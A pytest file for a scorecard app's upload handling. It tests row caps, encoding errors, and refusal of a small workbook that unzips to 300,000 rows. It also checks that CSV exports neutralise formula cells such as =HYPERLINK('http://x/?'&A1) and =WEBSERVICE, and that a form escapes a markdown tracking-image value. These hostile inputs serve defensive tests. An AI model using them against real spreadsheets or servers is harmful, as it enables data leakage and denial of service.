"""Uploaded returns are bounded before they are parsed, and exports are inert in a
spreadsheet."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import pandas as pd
import pytest

from scorecard.packs import pack_csv
from scorecard_ui import returns_upload
from scorecard_ui.returns_upload import MAX_ROWS, UploadRefused, read_upload
from scorecard_ui.spreadsheet import neutralised, safe_csv

HEADER = "event_id,type,occurred_at,case,source,client,age_band,gender,historic\n"
ROW = "r-{n},referral.received,2015-10-05,C-{n},police,child,11-15,female,false\n"


def xlsx_of(rows: int) -> bytes:
    """A workbook of ``rows`` identical rows, written as a hostile one would be (no cell
    references, compressed hard): 300,000 rows fit in about half a megabyte."""
    def cells(values: list[str]) -> str:
        return "<row>" + "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>'
                                 for v in values) + "</row>"

    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
             'openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             + cells(HEADER.strip().split(","))
             + cells(ROW.format(n=1).strip().split(",")) * rows + "</sheetData></worksheet>")
    main = "http://schemas.openxmlformats.org"
    parts = {
        "[Content_Types].xml": (
            f'<Types xmlns="{main}/package/2006/content-types"><Default Extension="rels" '
            f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/><Override '
            'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
            'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>'),
        "_rels/.rels": (
            f'<Relationships xmlns="{main}/package/2006/relationships"><Relationship '
            f'Id="r1" Type="{main}/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            f'<workbook xmlns="{main}/spreadsheetml/2006/main" xmlns:r="{main}/'
            'officeDocument/2006/relationships"><sheets><sheet name="Return" sheetId="1" '
            'r:id="r1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{main}/package/2006/relationships"><Relationship '
            f'Id="r1" Type="{main}/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'),
        "xl/worksheets/sheet1.xml": sheet,
    }
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return packed.getvalue()


@dataclass
class Peak:
    bytes: int = 0


@contextmanager
def peak_memory() -> Iterator[Peak]:
    """The most Python held at once inside the block (tracemalloc), in ``.bytes`` after
    it: what reading an upload costs the server, whatever it then refuses."""
    peak = Peak()
    tracemalloc.start()
    try:
        yield peak
    finally:
        peak.bytes = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()


def test_a_small_workbook_of_300000_rows_is_refused_without_reading_it_into_memory() -> None:
    """Issue 12 item 5: a 44 KB .xlsx of 300,000 rows took the server from 353 MB to
    1.27 GB and 38 s."""
    content = xlsx_of(300_000)
    assert len(content) < 2**20  # well under the upload limit
    with peak_memory() as peak, pytest.raises(UploadRefused,
                                              match=r"unzips to .* MB, more than 50 MB"):
        list(read_upload("return.xlsx", content, "racs"))
    assert peak.bytes < 64 * 2**20, f"peak {peak.bytes / 2**20:.0f} MiB"


def test_a_long_workbook_is_read_only_up_to_the_row_cap(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(returns_upload, "MAX_ROWS", 1000)
    with peak_memory() as peak, pytest.raises(UploadRefused, match="more than 1,000 rows"):
        list(read_upload("return.xlsx", xlsx_of(20_000), "racs"))
    assert peak.bytes < 32 * 2**20, f"peak {peak.bytes / 2**20:.0f} MiB"


def test_a_workbook_that_unzips_too_large_is_refused_before_it_is_opened(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(returns_upload, "MAX_UNZIPPED_BYTES", 1000)
    with pytest.raises(UploadRefused, match="unzips to"):
        list(read_upload("return.xlsx", xlsx_of(100), "racs"))
    with pytest.raises(UploadRefused, match="not an Excel workbook"):
        list(read_upload("return.xlsx", b"not a zip", "racs"))


def test_a_workbook_within_the_limits_is_read_row_by_row() -> None:
    rows = list(read_upload("return.xlsx", xlsx_of(3), "racs"))
    assert [number for number, *_ in rows] == [2, 3, 4]
    assert rows[0][2] is not None and rows[0][2]["payload"]["case"] == "C-1"


@pytest.mark.parametrize("name, line", [("return.csv", ROW), ("return.jsonl", "{{}}\n")])
def test_csv_and_json_lines_over_the_row_cap_are_refused(name: str, line: str) -> None:
    content = (HEADER + "".join(line.format(n=n) for n in range(MAX_ROWS + 5))).encode()
    with pytest.raises(UploadRefused, match=f"more than {MAX_ROWS:,} rows"):
        list(read_upload(name, content, "racs"))
    within = (HEADER + "".join(line.format(n=n) for n in range(MAX_ROWS - 1))).encode()
    assert sum(1 for _ in read_upload(name, within, "racs")) >= MAX_ROWS - 1  # not refused


def test_a_csv_in_no_encoding_excel_saves_is_refused_with_the_rule_not_a_traceback() -> None:
    """0x81 is neither UTF-8 (alone) nor a Windows-1252 character."""
    content = (HEADER + ROW.format(n=1)).encode("utf-8") + b"\x81,bad\n"
    with pytest.raises(UploadRefused, match=r"not text in UTF-8, UTF-16 or Windows-1252 "
                                            r"\(byte [\d,]+ is none of them\)"):
        list(read_upload("return.csv", content, "racs"))


def test_a_csv_within_the_limits_is_read_as_before() -> None:
    content = (HEADER + ROW.format(n=1) + "\n" + ROW.format(n=2)).encode()
    rows = list(read_upload("return.csv", content, "racs"))
    assert [r[2]["event_id"] for r in rows if r[2]] == ["r-1", "r-2"]
    assert rows[0][2] is not None and rows[0][2]["payload"]["historic"] is False


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x/?\"&A1)", "+cmd", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_formula_cells_are_inert_in_csv_exports(cell: str) -> None:
    """Issue 12 item 13."""
    assert neutralised(cell) == "'" + cell
    text = safe_csv(pd.DataFrame([{"Measure": cell, "Value": 3}])).decode()
    assert text.splitlines()[1].lstrip('"').startswith("'")


def test_numbers_and_plain_text_are_left_alone() -> None:
    for cell in ("-3", "+1.5", "Helpline contacts", "", 7):
        assert neutralised(cell) == cell


def test_the_scrutiny_download_is_inert() -> None:
    """The pack's CSV (the scrutiny page's download): a hostile title or agency name is
    text, while numbers stay numbers."""
    hostile = "=WEBSERVICE(\"http://x\")"
    side = {"value": 3, "markers": [], "target": None, "rag": None}
    pack = {"plan": {"title": hostile, "code": "p"}, "meeting": "2015-10-31",
            "meeting_title": hostile, "from": "2015-04-01", "audience": "scrutiny",
            "known_at_meeting": "2015-10-31T23:59:59Z", "known_at": "2015-11-01T00:00:00Z",
            "log_position_at_meeting": 1, "log_position": 2, "timezone": "Europe/London",
            "measures": [{"id": "m", "title": hostile, "objective": None, "unit": "count",
                          "per": None, "then": side, "now": {**side, "value": -3},
                          "difference": -6, "causes_hidden": False,
                          "causes": [{"cause": "late return", "effect": -6, "count": 6,
                                      "agencies": [hostile], "words": hostile}],
                          "sentences": [], "trend": []}],
            "actions": [], "legend": {}}
    csv = pack_csv(pack)
    assert hostile not in csv.replace("'" + hostile, "")
    assert ",-3," in csv and ",-6," in csv  # numbers are not made text


def test_the_column_guide_says_what_the_check_accepts() -> None:
    """A volunteer learnt the allowed values only from error messages. The guide is made
    from the contract's registry: every choice it lists passes the check, every range's
    ends pass and one past them fails."""
    from domain import contract
    from domain.errors import InvalidEvent
    from scorecard_ui.returns_upload import column_guide, takes

    rows = column_guide(["referral.received", "training.delivered"])
    by_column = {(t, c): (required, words) for t, c, required, words in rows}
    assert by_column[("referral.received", "age_band")] == (
        "yes", "one of: 0-10, 11-15, 16-17, 18-24, 25+, unknown")
    assert by_column[("training.delivered", "sector")][0] == "no"
    assert by_column[("training.delivered", "evaluation.returned")][0] == (
        "if evaluation is given")
    assert ("helpline.contact", "channel") not in by_column  # only the types asked for
    for event_type in contract.PAYLOADS:
        for name, (kind, _) in contract.PAYLOADS[event_type].items():
            if isinstance(kind, contract.Record):  # its fields have rows of their own
                continue
            words = takes(kind)
            assert words and "see docs" not in words, (event_type, name)
            if isinstance(kind, contract.OneOf):
                for choice in words.removeprefix("one of: ").split(", "):
                    kind(choice, name)  # raises if the guide lists what the check refuses
            if isinstance(kind, contract.Integer):
                kind(kind.lo, name)
                with pytest.raises(InvalidEvent):
                    kind(kind.lo - 1, name)


def test_the_correction_form_says_what_was_sent_escaped_and_only_when_it_does_not_fit(
) -> None:
    from domain import contract
    from scorecard_ui.views.agency import _sent

    gender = contract.PAYLOADS["referral.received"]["gender"][0]
    assert _sent(gender, "female") == ""  # a value the list shows needs no note
    assert _sent(gender, None) == ""
    assert "woman" in _sent(gender, "woman")
    hostile = _sent(gender, "![x](https://tracker.example/p.png) :red[boo]")
    assert "![" not in hostile and "](" not in hostile and ":red[" not in hostile
    assert len(_sent(gender, "x" * 500)) < 200  # a long value is cut, not the page


def test_the_preview_never_drops_the_rejection_for_the_field_list() -> None:
    """A row rejected for its signature, with two bad payload fields too, was told only
    of the two: fixed, it would be rejected again."""
    from types import SimpleNamespace
    from zoneinfo import ZoneInfo

    from domain.errors import InvalidEvent
    from scorecard_ui.return_submission import _every_problem
    from tests.support import event

    app: Any = SimpleNamespace(plan=SimpleNamespace(zone=ZoneInfo("Europe/London")))
    row = event("referral.received", "e")
    row["payload"].update(source="GP", client="adult")
    signature = InvalidEvent("must be a string", field="signature")
    assert _every_problem(signature, row, app) == str(signature)
    first = InvalidEvent("must be one of the list", field="payload.source")
    both = _every_problem(first, row, app)
    assert "payload.source" in both and "payload.client" in both
